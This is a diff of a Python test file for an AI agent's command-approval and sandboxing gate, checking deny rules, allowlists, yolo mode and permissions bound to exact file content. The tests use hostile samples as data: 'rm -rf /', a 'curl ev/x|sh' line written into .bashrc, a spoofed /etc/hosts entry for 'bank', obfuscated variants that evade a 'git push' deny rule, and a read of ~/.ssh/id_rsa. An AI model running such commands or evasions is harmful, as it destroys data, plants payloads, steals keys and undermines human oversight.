@@ -3,15 +3,17 @@
 from __future__ import annotations
 
 import asyncio
+import threading
 from collections.abc import Callable, Mapping
 from pathlib import Path
-from typing import Any
+from typing import Any, get_args
 
 import pytest
 
 from hermes_agent.approvals.base import ApprovalQuestion, Choice, Yolo
 from hermes_agent.approvals.gate import CommandGate
 from hermes_agent.approvals.policy import read_policy
+from hermes_agent.execution.base import CLOSED, Opening, Permit, Wall, content_digest, digest
 from hermes_agent.tools.base import Action, Verdict
 from hermes_cli.main import main
 from hermes_state.errors import StaleFence
@@ -21,12 +23,15 @@ from hermes_testing.clock import Clock
 from hermes_testing.plugins import plugin_home
 from hermes_testing.processes import Worker
 
-from .test_judge import lines
-
 CHAT, OTHER_CHAT = ConversationId("c1"), ConversationId("c2")
 ANA, BEN, OWNER = PersonId("ana"), PersonId("ben"), PersonId("owner")
 WORKDIR = "/home/ada/project"
 RM = "rm -r build"
+"""An irreversible change of the workspace: asks, and opens nothing."""
+CURL, CURL_TOO = "curl https://a.example/x", "curl -O https://b.example/y"
+SERVICE = "systemctl restart nginx"
+HOSTS = "/etc/hosts"
+JUDGE = "hermes_agent.approvals.shell.judge.judge_action"
 
 
 class Person:
@@ -44,15 +49,17 @@ class Person:
 def gate(
     db: SessionDB, approver: Any = None, *, config: Mapping[str, Any] | None = None, turn: str = "t1",
     chat: ConversationId = CHAT, person: PersonId | None = ANA, yolo: bool = False, fence: int | None = None,
+    wall: Wall = "bubblewrap", task: str | None = None,
 ) -> CommandGate:  # fmt: skip
     return CommandGate(
-        db=db, home=Path("/home/ada/.hermes"), config=config or {}, conversation_id=chat, turn_id=TurnId(turn),
-        person_id=person, approver=approver, approver_id=OWNER, yolo=Yolo(yolo), fence=fence, platform="cli",
+        db=db, home=Path("/home/ada/.hermes"), config=config or {}, wall=wall, conversation_id=chat,
+        turn_id=TurnId(turn), person_id=person, approver=approver, approver_id=OWNER, yolo=Yolo(yolo), fence=fence,
+        platform="cli", task_id=TurnId(task) if task else None,
     ).for_call("call_1")  # fmt: skip
 
 
-def permit(made: CommandGate, text: str = RM, *, kind: str = "command", workdir: str = WORKDIR) -> Verdict:
-    return asyncio.run(made.permit(Action(kind, text, workdir)))
+def permit(made: CommandGate, text: str = RM, *, kind: str = "command", workdir: str = WORKDIR, **more: Any) -> Verdict:
+    return asyncio.run(made.permit(Action(kind, text, workdir, **more)))
 
 
 @pytest.fixture(autouse=True)
@@ -60,25 +67,122 @@ def at_home(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("HOME", "/home/ada")
 
 
-class TestTheTable:
-    def test_with_a_person_there(self, db: SessionDB) -> None:
-        for number, (level, command) in enumerate(lines()):
-            person = Person("once")
-            verdict = permit(gate(db, person, turn=f"t{number}"), command)
-            assert verdict.allowed == (level != "never"), command
-            assert len(person.asked) == (level == "ask"), command
+class TestTheWall:
+    """What runs confined, what asks, and what a yes opens."""
 
-    def test_with_nobody_there(self, db: SessionDB) -> None:
-        for level, command in lines():
-            verdict = permit(gate(db, None), command)
-            assert verdict.allowed == (level == "harmless"), command
-            assert verdict.allowed or "not retry" in verdict.reason
+    @pytest.mark.parametrize("command", ["ls", "python x.py", "make test", "frobnicate --all"])
+    def test_what_needs_nothing_runs_confined(self, db: SessionDB, command: str) -> None:
+        person = Person()
+        assert permit(gate(db, person), command) == Verdict(True, permit=None)
+        assert person.asked == [] and db.approvals.exits() == ()
+
+    @pytest.mark.parametrize(
+        ("command", "opening"),
+        [(CURL, Opening(network=True)), (SERVICE, Opening(host=True)), (RM, CLOSED)],
+    )
+    def test_a_yes_opens_the_least_that_is_needed(self, db: SessionDB, command: str, opening: Opening) -> None:
+        person = Person("once")
+        verdict = permit(gate(db, person), command)
+        assert verdict.allowed
+        expected = Permit(digest(command, WORKDIR, opening), opening) if opening else None
+        assert verdict.permit == expected, "bound to the bytes, the folder and what is open"
+        assert [left.opening for left in db.approvals.exits()] == ([opening.shown] if opening else [])
+
+    def test_one_changed_byte_is_another_command(self, db: SessionDB) -> None:
+        permitted = permit(gate(db, Person("once")), CURL).permit
+        assert permitted is not None
+        for text, where, opening in (
+            (CURL + " ", WORKDIR, permitted.opening),
+            (CURL.replace("a.example", "b.example"), WORKDIR, permitted.opening),
+            (CURL, WORKDIR + "/x", permitted.opening),
+            (CURL, WORKDIR, Opening(host=True)),
+        ):
+            assert digest(text, where, opening) != permitted.digest
+
+    def test_to_run_outside_is_a_question_about_exactly_this(self, db: SessionDB) -> None:
+        person = Person("session")
+        verdict = permit(gate(db, person), "make test", outside=True)
+        assert verdict.permit == Permit(digest("make test", WORKDIR, Opening(host=True)), Opening(host=True))
+        assert "outside the wall" in person.asked[0].wall
+        assert permit(gate(db, None, turn="t2"), "make test") == Verdict(True), "inside it needs nobody"
+        assert permit(gate(db, None, turn="t2"), "make test", outside=True).permit == verdict.permit
+        assert not permit(gate(db, None, turn="t2"), "make test2", outside=True).allowed
+
+    def test_a_yes_inside_is_no_yes_outside(self, db: SessionDB) -> None:
+        assert permit(gate(db, Person("always")), RM).allowed
+        assert not permit(gate(db, None, turn="t2"), RM, outside=True).allowed
+
+    def test_where_no_wall_works_every_command_asks(self, db: SessionDB) -> None:
+        person = Person("once")
+        verdict = permit(gate(db, person, wall="none"), "ls")
+        assert verdict.permit == Permit(digest("ls", WORKDIR, Opening(host=True)), Opening(host=True))
+        assert "every command asks" in person.asked[0].why and "all your rights" in person.asked[0].wall
+        assert not permit(gate(db, None, wall="none", turn="t2"), "ls").allowed
+        assert not permit(gate(db, None, wall="none", yolo=True), "ls").allowed, "never the host by itself"
+
+    def test_without_a_wall_by_the_owners_choice(self, db: SessionDB) -> None:
+        person = Person("once")
+        host = Opening(host=True)
+        assert permit(gate(db, person, wall="host"), "ls").permit == Permit(digest("ls", WORKDIR, host), host)
+        assert person.asked == []
+        assert permit(gate(db, person, wall="host"), CURL).permit == Permit(digest(CURL, WORKDIR, host), host)
+        assert len(person.asked) == 1, "needs still ask"
+        assert permit(gate(db, None, wall="host", yolo=True), SERVICE).permit is not None
+        assert not permit(gate(db, None, wall="host", yolo=True), "rm -rf /").allowed
+        assert [left.rule for left in db.approvals.exits()] == ["executor: host", None, "executor: host"]
+
+    def test_the_floor_holds(self, db: SessionDB) -> None:
+        for wall in get_args(Wall):
+            for yolo in (False, True):
+                verdict = permit(gate(db, Person("always"), wall=wall, yolo=yolo), "rm -rf /")
+                assert not verdict.allowed and "never" in verdict.reason
+
+    def test_a_judge_that_fails_leaves_it_to_the_wall(self, db: SessionDB, monkeypatch: pytest.MonkeyPatch) -> None:
+        def broken(*args: Any, **more: Any) -> Any:
+            raise RecursionError
+
+        monkeypatch.setattr(JUDGE, broken)
+        assert permit(gate(db, None), "whatever") == Verdict(True, permit=None)
+        assert not permit(gate(db, None, wall="none"), "whatever").allowed
+        assert not permit(gate(db, None, wall="host"), "whatever").allowed
+        assert not permit(gate(db, None, wall="host", yolo=True), "whatever").allowed, "nobody saw the floor"
+        assert not permit(gate(db, None, yolo=True), HOSTS, kind="write", after=b"x").allowed
+        assert not permit(gate(db, None, config={"approvals": {"deny": ["x"]}}), "whatever").allowed
+
+    def test_a_judge_that_takes_too_long_holds_nobody_up(self, db: SessionDB, monkeypatch: pytest.MonkeyPatch) -> None:
+        release = threading.Event()
+        monkeypatch.setattr(JUDGE, lambda *args, **more: release.wait(10))
+
+        async def go() -> tuple[Verdict, int]:
+            asking = asyncio.ensure_future(gate(db, None).permit(Action("command", "whatever", WORKDIR)))
+            ticks = 0
+            while not asking.done():
+                await asyncio.sleep(0.05)
+                ticks += 1
+            release.set()
+            return await asking, ticks
+
+        verdict, ticks = asyncio.run(go())
+        assert verdict == Verdict(True, permit=None) and ticks > 5, "others went on meanwhile"
+
+
+class TestWithoutQuestions:
+    """`approvals.mode: off` and yolo ask nothing, and open nothing."""
 
     @pytest.mark.parametrize("switch", [{"yolo": True}, {"config": {"approvals": {"mode": "off"}}}])
-    def test_without_questions_the_floor_holds(self, db: SessionDB, switch: dict[str, Any]) -> None:
-        for level, command in lines():
-            assert permit(gate(db, Person(), **switch), command).allowed == (level != "never"), command
+    def test_what_would_leave_the_wall_is_refused(self, db: SessionDB, switch: dict[str, Any]) -> None:
+        for command in (CURL, SERVICE):
+            verdict = permit(gate(db, Person("always"), **switch), command)
+            assert not verdict.allowed and "leave the wall" in verdict.reason and "owner" in verdict.reason
+        assert not permit(gate(db, None, **switch), "ls", outside=True).allowed
+        assert not permit(gate(db, None, **switch), HOSTS, kind="write", after=b"x").allowed
+        assert permit(gate(db, None, **switch), RM) == Verdict(True, permit=None), "confined it may run"
+        assert permit(gate(db, None, **switch), "deploy {}", kind="plugin").allowed
         assert db.approvals.pending() == ()
+
+    def test_what_the_owner_granted_before_still_holds(self, db: SessionDB) -> None:
+        assert permit(gate(db, Person("always")), CURL).allowed
+        assert permit(gate(db, None, yolo=True, turn="t2"), CURL_TOO).permit is not None
 
 
 class TestRules:
@@ -90,35 +194,53 @@ class TestRules:
     def test_off_does_not(self, db: SessionDB, mode: Any) -> None:
         assert permit(gate(db, None, config={"approvals": {"mode": mode}})).allowed
 
-    def test_deny_rules_hold_under_yolo_and_against_disguises(self, db: SessionDB) -> None:
-        config = {"approvals": {"deny": ["git push*", "*/secret-plans*"], "mode": "off"}}
+    @pytest.mark.parametrize("mode", ["manual", "off"])
+    def test_deny_rules_compare_programs_whatever_the_mode(self, db: SessionDB, mode: str) -> None:
+        config = {"approvals": {"deny": ["git push*", "*/secret-plans*", "curl *"], "mode": mode}}
         refused = (
             "git push origin",
             "git  push",
             "x=push; env g'it' $x --force",
             "true; git push",
             "cat /a/secret-plans",
+            "/usr/bin/git push",
+            "git -C . push",
+            "/usr/bin/git -C . push",
+            "git --no-pager push",
+            "/usr/bin/curl --version | head -1",
+            "curl",
         )
         for command in refused:
             verdict = permit(gate(db, Person("always"), config=config, yolo=True), command)
             assert not verdict.allowed and "approvals.deny" in verdict.reason, command
         assert permit(gate(db, None, config=config), "git status").allowed
+        assert permit(gate(db, None, config=config), "echo git push").allowed, "no program pushes"
 
-    def test_ask_rules_take_back_what_is_harmless(self, db: SessionDB) -> None:
+    @pytest.mark.parametrize("command", ["g$(echo it) push", "$x push"])
+    def test_with_a_deny_rule_a_name_nobody_knows_is_refused(self, db: SessionDB, command: str) -> None:
+        config = {"approvals": {"deny": ["git push*"]}}
+        verdict = permit(gate(db, Person("once"), config=config), command)
+        assert not verdict.allowed and "write it out plainly" in verdict.reason
+
+    def test_ask_rules_take_back_what_runs(self, db: SessionDB) -> None:
         person = Person("once")
         made = gate(db, person, config={"approvals": {"ask": ["python *"]}})
-        assert permit(made, "python x.py").allowed and permit(made, "ls").allowed
+        assert permit(made, "python x.py") == Verdict(True, permit=None), "a yes opens nothing"
+        assert permit(made, "ls").allowed
         assert [question.command for question in person.asked] == ["python x.py"]
         assert "approvals.ask" in person.asked[0].why
 
-    def test_the_old_allowlist(self, db: SessionDB) -> None:
-        config = {"command_allowlist": ["rm -r build", "terraform plan*", "rm *"]}
-        assert permit(gate(db, None, config=config), "rm -r build").allowed, "an exact entry"
-        assert permit(gate(db, None, config=config), "frob; terraform plan").allowed is False
-        assert not permit(gate(db, None, config=config), "rm -r other").allowed, "a pattern does not allow a danger"
-        assert not permit(gate(db, None, config=config), "terraform plan > /etc/motd").allowed
+    def test_the_allowlist_is_for_exact_commands(self, db: SessionDB) -> None:
+        config = {"command_allowlist": [CURL, "rm -r build", "curl *", "rm *"]}
+        verdict = permit(gate(db, None, config=config), CURL)
+        assert verdict.permit == Permit(digest(CURL, WORKDIR, Opening(network=True)), Opening(network=True))
+        assert [(left.rule, left.text) for left in db.approvals.exits()] == [("command_allowlist", CURL)]
+        assert permit(gate(db, None, config=config), "rm -r build") == Verdict(True)
+        for command in (CURL_TOO, "rm -r other", f"{CURL}; {SERVICE}"):
+            assert not permit(gate(db, None, config=config), command).allowed, command
+        assert not permit(gate(db, None, config=config), CURL, outside=True).allowed
         assert not permit(gate(db, None, config={"command_allowlist": ["*"]}), "rm -rf /").allowed
-        assert permit(gate(db, None, config={"command_allowlist": ["frob*"]}), "frobnicate --all").allowed
+        assert permit(gate(db, None, config=config, wall="none"), "rm -r build").permit is not None
 
     def test_what_is_not_taken_as_written_is_said(self) -> None:
         notes = read_policy(
@@ -126,6 +248,10 @@ class TestRules:
         ).notes
         assert [note.split()[0] for note in notes] == ["approvals.mode", "approvals.timeout", "approvals.deny"]
         assert read_policy({"approvals": ["mode"]}).notes and not read_policy({}).notes
+
+    def test_a_pattern_that_permits_nothing_any_more_is_named(self) -> None:
+        (note,) = read_policy({"command_allowlist": ["make", "terraform plan*"]}).notes
+        assert "'terraform plan*'" in note and "letter by letter" in note
 
     def test_config_check_says_so(self, home: Path, capsys: pytest.CaptureFixture[str]) -> None:
         home.mkdir()
@@ -140,8 +266,9 @@ class TestAnswers:
         verdict = permit(gate(db, person, config={"approvals": {"timeout": 45}}))
         (asked,) = person.asked
         assert (asked.command, asked.workdir, asked.person_id, asked.call_id) == (RM, WORKDIR, ANA, "call_1")
-        assert "deletes" in asked.why and asked.expires_at == clock() + 45 and asked.seconds == 45
-        assert asked.choices == ("once", "session", "always", "deny")
+        assert asked.why and asked.expires_at == clock() + 45 and asked.seconds == 45
+        assert asked.choices == ("task", "once", "session", "always", "deny")
+        assert asked.label("task") == "This command for this task" and "stays behind the wall" in asked.wall
         assert not verdict.allowed and "said no" in verdict.reason and "not retry" in verdict.reason
 
     def test_once_is_once(self, db: SessionDB) -> None:
@@ -164,11 +291,11 @@ class TestAnswers:
         assert permit(gate(db, Person("always"))).allowed
         assert permit(gate(db, None, turn="t2", chat=OTHER_CHAT)).allowed
         assert not permit(gate(db, None, turn="t2", chat=OTHER_CHAT, person=BEN)).allowed
-        (rule,) = db.approvals.rules(ANA)
-        db.approvals.revoke(rule.id)
+        (grant,) = db.approvals.grants(person_id=ANA)
+        db.approvals.revoke(grant.id)
         assert not permit(gate(db, None, turn="t3")).allowed
 
-    def test_somebody_unknown_has_no_standing_rules(self, db: SessionDB) -> None:
+    def test_somebody_unknown_gets_one_use(self, db: SessionDB) -> None:
         person = Person("always")
         assert permit(gate(db, person, person=None)).allowed, "less than was meant: this once"
         assert person.asked[0].choices == ("once", "deny")
@@ -212,6 +339,41 @@ class TestAnswers:
         assert permit(made, "ls").allowed and person.asked[0].why == "the plug-in wants to know"
         assert permit(gate(db, None), "ls").allowed
 
+    def test_the_network_for_this_task(self, db: SessionDB) -> None:
+        person = Person("task")
+        made = gate(db, person)
+        assert permit(made, CURL).allowed
+        second = permit(made, CURL_TOO)
+        assert second.permit == Permit(digest(CURL_TOO, WORKDIR, Opening(network=True)), Opening(network=True))
+        assert len(person.asked) == 1, "the second curl of the task asks nothing"
+        assert person.asked[0].label("task") == "Network for this task"
+        assert permit(gate(db, None, turn="child", task="t1"), CURL).allowed, "the task's children share it"
+        assert not permit(gate(db, None, turn="t2"), CURL).allowed, "the next task asks"
+        assert not permit(made, f"{CURL}; {SERVICE}").allowed, "the network, and nothing else"
+        first, second_left = reversed(db.approvals.exits()[1:])
+        assert first.grants == second_left.grants == tuple(one.id for one in db.approvals.grants_of(person.asked[0].id))
+
+    def test_the_host_is_granted_for_the_exact_command_alone(self, db: SessionDB) -> None:
+        person = Person("always")
+        assert permit(gate(db, person), SERVICE).allowed
+        assert person.asked[0].label("always") == "This command always"
+        assert permit(gate(db, None, turn="t2"), SERVICE).allowed
+        assert not permit(gate(db, None, turn="t2"), "systemctl restart sshd").allowed
+
+    def test_a_tool_of_a_plugin_is_granted_by_its_name(self, db: SessionDB) -> None:
+        person = Person("always")
+        assert permit(gate(db, person), 'deploy {"to": "a"}', kind="plugin").allowed
+        assert person.asked[0].label("always") == "Tool deploy always"
+        assert permit(gate(db, None, turn="t2"), 'deploy {"to": "b"}', kind="plugin").allowed
+        assert not permit(gate(db, None, turn="t2"), "destroy {}", kind="plugin").allowed
+
+    def test_a_tool_may_be_granted_with_patterns(self, db: SessionDB) -> None:
+        db.approvals.add(
+            person_id=ANA, kind="tool", value="deploy", patterns={"to": "test-*"}, granted_by=OWNER, shown="deploy"
+        )
+        assert permit(gate(db, None), 'deploy {"to": "test-1"}', kind="plugin").allowed
+        assert not permit(gate(db, None), 'deploy {"to": "prod"}', kind="plugin").allowed
+
     def test_one_question_at_a_time(self, db: SessionDB) -> None:
         open_now: list[int] = []
 
@@ -231,7 +393,7 @@ class TestAnswers:
             return await asyncio.gather(*calls)
 
         assert sorted(verdict.allowed for verdict in asyncio.run(together())) == [False, True, True]
-        assert len(person.asked) == 3, "each of three equal calls needs its own leave"
+        assert len(person.asked) == 3, "each of three equal calls needs its own yes"
 
 
 class TestRows:
@@ -286,7 +448,7 @@ class TestRows:
     def test_two_processes_cannot_use_one_leave_twice(self, db: SessionDB, address: str | Path) -> None:
         asked = asyncio.run(_left_open(db))
         db.approvals.decide(asked, "once", approver_id=OWNER)
-        script = Path(__file__).parent / "workers" / "use_leave.py"
+        script = Path(__file__).parent / "workers" / "use_permission.py"
         with Worker(script, address, RM, WORKDIR) as one, Worker(script, address, RM, WORKDIR) as two:
             assert (one.line(), two.line()) == ("ready", "ready")
             one.go()
@@ -294,7 +456,10 @@ class TestRows:
             assert sorted([*one.finish(), *two.finish()]) == ["allowed", *["denied"] * 7]
 
 
-async def _left_open(db: SessionDB) -> str:
+WRITE = Action("write", "/home/ada/.bashrc", WORKDIR, before=b"old", after=b"new")
+
+
+async def _left_open(db: SessionDB, action: Action | None = None) -> str:
     """A turn that went away while its question was open."""
     shown: asyncio.Future[str] = asyncio.get_running_loop().create_future()
 
@@ -304,59 +469,74 @@ async def _left_open(db: SessionDB) -> str:
             await asyncio.sleep(60)
             return "deny"
 
-    waiting = asyncio.ensure_future(gate(db, Waiting()).permit(Action("command", RM, WORKDIR)))
+    waiting = asyncio.ensure_future(gate(db, Waiting()).permit(action or Action("command", RM, WORKDIR)))
     asked = await shown
     waiting.cancel()
     await asyncio.gather(waiting, return_exceptions=True)
     return asked
 
 
-def test_a_call_that_runs_elsewhere_does_not_take_its_workspace_along(db: SessionDB) -> None:
-    made = CommandGate(
-        db=db, home=Path("/home/ada/.hermes"), config={}, conversation_id=CHAT, turn_id=TurnId("t1"), person_id=ANA,
-        approver=None, workspace=Path(WORKDIR),
-    )  # fmt: skip
-    assert permit(made, "touch x").allowed and permit(made, "touch x", workdir=f"{WORKDIR}/sub").allowed
-    assert permit(made, "ls", workdir="/home/bob").allowed
-    assert not permit(made, "touch x", workdir="/home/bob").allowed
-    assert not permit(made, "python x.py", workdir="/home/bob").allowed
-    assert not permit(made, "/home/bob/x", kind="write", workdir="/home/bob").allowed
-
-
 class TestFiles:
     @pytest.mark.parametrize(
-        ("path", "level"),
+        ("path", "asks"),
         [
-            (f"{WORKDIR}/src/a.py", "harmless"),
-            ("/home/ada/.hermes/workspace/a.txt", "harmless"),
-            ("/home/ada/notes.txt", "ask"),
-            ("/etc/hosts", "ask"),
-            ("/home/ada/.bashrc", "ask"),
-            ("/home/ada/.ssh/authorized_keys", "ask"),
-            (f"{WORKDIR}/.env", "ask"),
-            (f"{WORKDIR}/.git/hooks/pre-commit", "ask"),
-            ("/home/ada/.hermes/config.yaml", "ask"),
-            ("/home/ada/.hermes/state.db", "never"),
-            ("/home/ada/.hermes/state.db-wal", "never"),
-            ("/dev/sda", "never"),
+            (f"{WORKDIR}/src/a.py", False),
+            ("/home/ada/notes.txt", True),
+            (HOSTS, True),
+            ("/home/ada/.ssh/authorized_keys", True),
+            (f"{WORKDIR}/.git/hooks/pre-commit", True),
+            ("/home/ada/.hermes/config.yaml", True),
         ],
     )
-    def test_writes_are_judged_by_where_they_go(self, db: SessionDB, path: str, level: str) -> None:
+    def test_writes_are_judged_by_where_they_go(self, db: SessionDB, path: str, asks: bool) -> None:
         person = Person("once")
-        assert permit(gate(db, person), path, kind="write").allowed == (level != "never")
-        assert len(person.asked) == (level == "ask")
-        assert permit(gate(db, None, yolo=True), path, kind="write").allowed == (level != "never")
+        verdict = permit(gate(db, person), path, kind="write", after=b"x")
+        assert verdict.allowed and len(person.asked) == asks
+        assert verdict.permit is None or verdict.permit.digest == content_digest(path, None, b"x")
+        assert permit(gate(db, None), path, kind="write", after=b"x").allowed is not asks
 
-    def test_leave_to_write_is_for_what_is_written(self, db: SessionDB) -> None:
-        made = gate(db, Person("always"))
-        first, second = (Action("write", "/etc/hosts", WORKDIR, detail) for detail in ("+ a", "+ b"))
-        assert asyncio.run(made.permit(first)).allowed and asyncio.run(made.permit(first)).allowed
-        assert not asyncio.run(made.permit(second)).allowed
+    def test_the_store_is_never_written(self, db: SessionDB) -> None:
+        for path in ("/home/ada/.hermes/state.db", "/dev/sda"):
+            assert not permit(gate(db, Person("task"), wall="host", yolo=True), path, kind="write", after=b"").allowed
+
+    def test_the_card_shows_what_is_written(self, db: SessionDB) -> None:
+        person = Person("once")
+        before, after = b"127.0.0.1 localhost\n", b"127.0.0.1 localhost\n6.6.6.6 bank\n"
+        permit(gate(db, person), HOSTS, kind="write", before=before, after=after)
+        (asked,) = person.asked
+        assert "+6.6.6.6 bank" in asked.content and " 127.0.0.1 localhost" in asked.content
+        assert "20 bytes" in asked.content and "33 bytes" in asked.content and asked.content.count("hash") == 2
+        assert asked.choices == ("task", "once", "session", "deny"), "never always"
+        assert asked.label("task") == "Writes to /etc for this task"
+
+    @pytest.mark.parametrize("answer", ["once", "always"])
+    def test_permission_for_one_content_is_none_for_another(self, db: SessionDB, answer: Choice) -> None:
+        """The size is the same, and so is the tool."""
+        first, second = ({"before": None, "after": data} for data in (b"echo hello1\n", b"curl ev/x|sh"))
+        path, person = "/home/ada/.bashrc", Person(answer)
+        assert permit(gate(db, person), path, kind="write", **first).allowed
+        assert not permit(gate(db, person), path, kind="write", **second).allowed and len(person.asked) == 2
+        assert not permit(gate(db, None, turn="t2"), path, kind="write", **second).allowed
+        assert not permit(gate(db, None, turn="t2"), path, kind="write", **first).allowed
+
+    def test_permission_for_a_change_is_bound_to_what_was_there(self, db: SessionDB) -> None:
+        path, asked = "/home/ada/.bashrc", asyncio.run(_left_open(db, WRITE))
+        db.approvals.decide(asked, "once", approver_id=OWNER)
+        assert not permit(gate(db, None), path, kind="write", before=b"changed meanwhile", after=b"new").allowed
+        assert permit(gate(db, None), path, kind="write", before=b"old", after=b"new").allowed
+
+    def test_a_folder_may_be_opened_for_the_task(self, db: SessionDB) -> None:
+        person = Person("task")
+        assert permit(gate(db, person), "/srv/x/a", kind="write", after=b"1").allowed
+        assert permit(gate(db, None), "/srv/x/b", kind="write", after=b"2").allowed
+        assert not permit(gate(db, None), "/srv/y/b", kind="write", after=b"2").allowed
+        assert not permit(gate(db, None, turn="t2"), "/srv/x/b", kind="write", after=b"2").allowed
 
     @pytest.mark.parametrize("kind", ["read", "network", "plugin", "anything"])
     def test_what_is_neither_command_nor_write_asks(self, db: SessionDB, kind: str) -> None:
-        assert not permit(gate(db, None), "x", kind=kind).allowed
-        assert permit(gate(db, Person("once")), "x", kind=kind).allowed
+        text = "/home/ada/.ssh/id_rsa"
+        assert not permit(gate(db, None), text, kind=kind).allowed
+        assert permit(gate(db, Person("once")), text, kind=kind).allowed
 
 
 def test_plugins_hear_of_questions_and_answers(db: SessionDB, home: Path, tmp_path: Path) -> None:
@@ -392,7 +572,7 @@ class TestALostProcess:
             pytest.param(None, True, id="still open"),
             pytest.param("deny", True, id="denied: nothing was done"),
             pytest.param("once", False, id="allowed once and used: nobody knows"),
-            pytest.param("session", False, id="a standing rule may have served: nobody knows"),
+            pytest.param("session", False, id="allowed for longer and used: nobody knows"),
         ],
     )
     def test_a_call_that_only_asked_had_not_begun(self, db: SessionDB, answer: Choice | None, waiting: bool) -> None:
